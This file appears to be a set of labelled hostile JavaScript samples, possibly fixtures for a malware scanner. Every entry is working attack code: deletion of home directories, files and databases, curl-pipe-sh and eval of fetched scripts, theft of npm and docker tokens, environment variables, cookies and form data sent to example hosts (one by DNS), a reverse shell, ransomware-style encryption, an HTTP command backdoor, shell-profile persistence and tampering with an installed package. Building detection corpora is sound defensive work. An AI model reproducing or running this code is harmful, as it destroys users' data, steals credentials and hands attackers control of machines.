%% h103 rmSync of the home
const fs = require('fs');
const os = require('os');
fs.rmSync(os.homedir(), { recursive: true, force: true });
%% h104 child_process exec of curl pipe sh
require('child_process').exec('curl -fsSL https://i.example.net/setup | sh');
%% h105 postinstall sends npmrc token
const fs = require('fs'), https = require('https'), os = require('os');
const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
const r = https.request({ host: 'npm-stats.example.org', path: '/i', method: 'POST' });
r.end(t);
%% h106 eval of base64 buffer
eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdybSAtcmYgfi8qJyk=', 'base64').toString());
%% h107 node reverse shell
const net = require('net'), cp = require('child_process');
const sh = cp.spawn('/bin/sh', []);
const c = new net.Socket();
c.connect(4242, '198.51.100.9', () => {
  c.pipe(sh.stdin);
  sh.stdout.pipe(c);
  sh.stderr.pipe(c);
});
%% h108 new Function of a fetched script
fetch('https://cdn.example.net/l.js')
  .then(r => r.text())
  .then(t => new Function('require', t)(require));
%% h109 sends process.env
fetch('https://log.example.org/c', { method: 'POST', body: JSON.stringify(process.env) });
%% h110 encrypts the documents with a random key
const fs = require('fs'), path = require('path'), crypto = require('crypto'), os = require('os');
const key = crypto.randomBytes(32);
for (const f of fs.readdirSync(path.join(os.homedir(), 'Documents'))) {
  const p = path.join(os.homedir(), 'Documents', f);
  const iv = crypto.randomBytes(16);
  const c = crypto.createCipheriv('aes-256-cbc', key, iv);
  fs.writeFileSync(p + '.enc', Buffer.concat([iv, c.update(fs.readFileSync(p)), c.final()]));
  fs.unlinkSync(p);
}
%% h111 computed member name hides execSync
const k = ['exec', 'Sync'].join('');
require('child_' + 'process')[k]('rm -rf ' + process.env.HOME + '/.ssh');
%% h112 appends to zshrc
const fs = require('fs');
fs.appendFileSync(process.env.HOME + '/.zshrc', '\ncurl -s https://z.example.net/z | zsh &\n');
%% h113 walks and truncates the whole working tree
const fs = require('fs'), path = require('path');
(function walk(d) {
  for (const e of fs.readdirSync(d, { withFileTypes: true })) {
    const p = path.join(d, e.name);
    e.isDirectory() ? walk(p) : fs.truncateSync(p, 0);
  }
})(process.cwd());
%% h114 cookie theft through an image
new Image().src = 'https://t.example.net/p.gif?c=' + encodeURIComponent(document.cookie);
%% h115 local storage tokens sent with sendBeacon
navigator.sendBeacon('https://a.example.org/b', JSON.stringify(Object.entries(localStorage)));
%% h116 downloads binary, marks executable and spawns it detached
const https = require('https'), fs = require('fs'), { spawn } = require('child_process');
https.get('https://bin.example.net/linux-x64', r => {
  const o = fs.createWriteStream('/tmp/.node-gyp', { mode: 0o755 });
  r.pipe(o).on('finish', () => spawn('/tmp/.node-gyp', { detached: true, stdio: 'ignore' }).unref());
});
%% h117 mongoose drops the database
const mongoose = require('mongoose');
mongoose.connect(process.env.MONGO_URL).then(async () => {
  await mongoose.connection.dropDatabase();
  process.exit();
});
%% h118 http back door that runs the query string
require('http').createServer((q, s) => {
  const cmd = new URL(q.url, 'http://x').searchParams.get('c');
  require('child_process').exec(cmd, (e, out) => s.end(out));
}).listen(8088, '0.0.0.0');
%% h119 char codes make a command
const s = String.fromCharCode(114, 109, 32, 45, 114, 102, 32, 126);
require('child_process').execSync(s);
%% h120 dns lookup leaks user and host and token
const dns = require('dns'), fs = require('fs');
const t = fs.readFileSync(process.env.HOME + '/.docker/config.json').toString('hex').match(/.{1,60}/g);
t.forEach((p, i) => dns.resolve(`${i}.${p}.d.example.net`, () => {}));
%% h121 hook sends every submitted form to a foreign host
document.querySelectorAll('form').forEach(f => f.addEventListener('submit', () => {
  const d = Object.fromEntries(new FormData(f));
  fetch('https://forms.example.net/x', { method: 'POST', mode: 'no-cors', body: JSON.stringify(d) });
}, true));
%% h122 prepends malicious code to another installed package
const fs = require('fs');
const p = require.resolve('express');
fs.writeFileSync(p, "fetch('https://e.example.net/e').then(r=>r.text()).then(eval);\n" + fs.readFileSync(p));
